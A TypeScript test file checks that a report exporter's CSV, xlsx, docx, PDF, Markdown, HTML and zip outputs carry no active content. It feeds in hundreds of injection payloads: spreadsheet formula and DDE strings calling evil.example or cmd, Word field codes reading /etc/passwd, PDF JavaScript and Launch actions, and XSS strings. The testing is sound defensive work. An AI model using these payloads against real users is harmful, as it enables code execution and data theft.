import { execFileSync } from 'node:child_process'
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { deflateSync } from 'node:zlib'
import { strFromU8, strToU8, unzipSync, zipSync } from 'fflate'
import { afterAll, expect, test } from 'vitest'
import { renderCsv } from '../../../server/report/csv.ts'
import { Writing } from '../../../server/report/writing.ts'
import { reportFiles } from '../../../shared/report/formats.ts'
import { assembleSheets } from '../../../shared/report/sheets.ts'
import type { ReportInput } from '../../../shared/report/telling.ts'
import { activeIn, partsOf } from '../../kit/report-scan.ts'
import { cardOf } from '../../kit/report-sample.ts'
import { placedReport } from '../../kit/placed-report.ts'

const folder = mkdtempSync(join(tmpdir(), 'roundtable-x1-'))
const writing = new Writing()
afterAll(async () => {
  await writing.close()
  rmSync(folder, { recursive: true, force: true })
})

const starts = ['=', '+', '-', '@', '\t=', '\r=', '\n=', ' =', '\u00a0=', '\u3000@', '＝', '＋', '－', '＠', '"=', "'=", ';=', 'a;=', 'a; @', 'a\n=', 'a\n\t@', 'a\r\n+', '1,=', '"",='] // prettier-ignore
const bodies = ["cmd|' /C calc'!A0", '40000+2345', 'HYPERLINK("http://evil.example/?"&A1)', 'WEBSERVICE("http://evil.example")', 'IMPORTXML("http://evil.example","//a")', "DDE(\"cmd\";\"/C calc\";\"x\")", 'SUM(A1:A9)'] // prettier-ignore
const others = [
  '{ INCLUDEPICTURE "http://evil.example/a.png" }', '{ DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe }', '</w:t></w:r><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> INCLUDETEXT "/etc/passwd" </w:instrText></w:r>',
  '<w:altChunk r:id="x"/>', '<Relationship TargetMode="External" Target="http://evil.example"/>', ') /OpenAction << /S /JavaScript /JS (app.alert(1)) >> (', '/Launch', 'endobj 9 0 obj << /S /URI /URI (http://evil.example) >>',
  '#link("http://evil.example")[x]', '[x](javascript:alert(1))', '![x](http://evil.example/a.png)', '<img src=x onerror=alert(1)>', '<script>alert(1)</script>', '<http://evil.example>', '"}], "type": "Topology"',
] // prettier-ignore
const payloads = [...starts.flatMap((start) => bodies.map((body) => start + body)), ...starts.flatMap((start) => others.slice(0, 6).map((body) => start + body)), ...others] // prettier-ignore

/** Every payload is a card's own title and its note; some are the title, the place and the table of the session. */
function harmful(texts: readonly string[]): ReportInput {
  const sample = placedReport('en', texts)
  const cards = texts.map((text, at) => cardOf(`n${at}`, at + 10, { name: { own: text }, scale: 3, impact: 3, note: text }))
  const boards = sample.boards['crime-mapping']!.map((board, at) => (at === 0 ? { ...board, cards: [...board.cards, ...cards] } : board))
  const session = { ...sample.session, title: texts[0]!, place: texts[texts.length - 1]! }
  return { ...sample, session, boards: { ...sample.boards, 'crime-mapping': boards } }
}

test('X1: of more than 300 payloads none makes anything active in any format', { timeout: 180_000 }, async () => {
  expect(payloads.length).toBeGreaterThan(300)
  const input = harmful(payloads)
  for (const format of [...reportFiles, 'html'] as const) expect(activeIn(await writing.write(format, input), format), format).toEqual([])
  // What is on the maps is in the bundle, with words of theirs in it.
  const bundle = Object.fromEntries(partsOf(await writing.write('zip', input)))
  expect(bundle['map.geojson']).toContain('calc')
})

test('X1, control: of each sort of active content one is found in each sort of file', () => {
  const zip = (name: string, text: string) => zipSync({ [name]: strToU8(text) })
  const planted: readonly (readonly [format: string, file: Uint8Array])[] = [
    ['docx', zip('word/_rels/document.xml.rels', '<Relationship Target="http://evil.example" TargetMode="External"/>')],
    ['docx', zip('word/_rels/settings.xml.rels', '<Relationship Type="x/attachedTemplate" Target="a.dotm"/>')],
    ['docx', zip('word/document.xml', '<w:instrText xml:space="preserve"> INCLUDEPICTURE "http://evil.example" </w:instrText>')],
    ['docx', zip('word/document.xml', '<w:instrText xml:space="preserve"> PAGEREF _Toc1 \\h x </w:instrText>')],
    ['docx', zip('word/settings.xml', '<w:updateFields w:val="true"/>')],
    ['xlsx', zip('xl/worksheets/sheet1.xml', '<c r="A1"><f>1+1</f></c>')],
    ['xlsx', zip('xl/workbook.xml', '<definedName name="x">WEBSERVICE("http://evil.example")</definedName>')],
    ['zip', zip('tables/01.csv', '"a","=1+1"\r\n')],
    ['zip', zip('tables/01.csv', '"a;=1+1"\r\n')],
    ['zip', zip('tables/01.csv', '"a\n@x"\r\n')],
    ['zip', zip('figures/figure-01.svg', '<svg onload="x"></svg>')],
    ['zip', zip('figures/figure-01.svg', '<svg><image href="file:///etc/passwd"/></svg>')],
    ['zip', zip('map.geojson', '{"features":[{"properties":{"name":{"x":1}}}]}')],
    ['pdf', Buffer.from('1 0 obj << /OpenAction << /S /JavaScript >> >>')],
    [
      'pdf',
      Buffer.concat([Buffer.from('1 0 obj << /Type /ObjStm >> stream\n'), deflateSync('<< /S /Launch >>'), Buffer.from('\nendstream')]),
    ],
    ['md', strToU8('a [x](javascript:1)')],
    ['md', strToU8('<script>')],
    ['html', strToU8('<p onclick="x">')],
    ['html', strToU8('<img src="x">')],
  ]
  for (const [format, file] of planted) expect(activeIn(file, format), Buffer.from(file).toString('latin1')).not.toEqual([])
})

/** `SOFFICE` names another than the machine's own, where that is without Calc. */
const soffice = process.env['SOFFICE'] ?? 'soffice'

/** True where LibreOffice can open a spreadsheet: many machines have its Writer alone. */
function hasCalc(): boolean {
  writeFileSync(join(folder, 'sum.csv'), '1,2')
  try {
    return shownBy(['sum.csv'])[0] !== ''
  } catch {
    return false
  }
}

/** Reads CSV as a spreadsheet does that takes for a formula whatever looks like one; other files it opens as they are. */
const careless = ['--infilter=Text - txt - csv (StarCalc):44,34,76,1,,0,false,true,false,false,false,0,true']

/** What a spreadsheet shows after it has opened the files and worked everything out. */
function shownBy(names: readonly string[], filter: readonly string[] = []): string[] {
  const paths = names.map((name) => join(folder, name))
  const given = [
    `-env:UserInstallation=file://${folder}/profile`,
    '--headless',
    ...filter,
    '--convert-to',
    'ods',
    '--outdir',
    join(folder, 'read'),
  ]
  execFileSync(soffice, [...given, ...paths], { stdio: 'ignore' })
  return names.map(
    (name) => Object.fromEntries(partsOf(readFileSync(join(folder, 'read', name.replace(/\.\w+$/, '.ods')))))['content.xml'] ?? '',
  )
}

const formula = /table:formula=/
const workedOut = (text: string) => [text.includes('42345'), formula.test(text)]

test.skipIf(!hasCalc())('X1: a spreadsheet that opens and works out our files works out nothing in them; control: formulas, and words written as they are', { timeout: 240_000 }, async () => {
  const input = harmful(starts.map((start) => `${start}40000+2345`))
  const ours = await writing.write('xlsx', input)
  const cells = unzipSync(ours)
  // The control: of two cells of our own workbook one is a formula.
  const [name, sheet] = Object.entries(cells).find(([part]) => part.startsWith('xl/worksheets/sheet'))!
  const planted = strFromU8(sheet).replace(/<c r="(B2|C2)"[^>]*>.*?<\/c>/g, '<c r="$1"><f>40000+2345</f></c>')
  writeFileSync(join(folder, 'workbook.xlsx'), ours)
  writeFileSync(join(folder, 'planted.xlsx'), zipSync({ ...cells, [name]: strToU8(planted) }))
  const [workbook = '', control = ''] = shownBy(['workbook.xlsx', 'planted.xlsx'])
  expect(workbook).toContain('40000+2345')
  expect([workbook, control].map(workedOut)).toEqual([[false, false], [true, true]])

  const cards = assembleSheets(input).find(({ head }) => head.includes('Note'))!
  writeFileSync(join(folder, 'ours.csv'), renderCsv(cards))
  const bare = cards.rows.map((row) => row.map((cell) => `"${String(cell ?? '').replaceAll('"', '""')}"`).join(',')).join('\r\n')
  writeFileSync(join(folder, 'bare.csv'), bare)
  const [csv = '', bareCsv = ''] = shownBy(['ours.csv', 'bare.csv'], careless)
  expect(csv).toContain('40000+2345')
  expect([csv, bareCsv].map((text) => text.includes('42345'))).toEqual([false, true])
  expect(csv).not.toMatch(formula)
}) // prettier-ignore
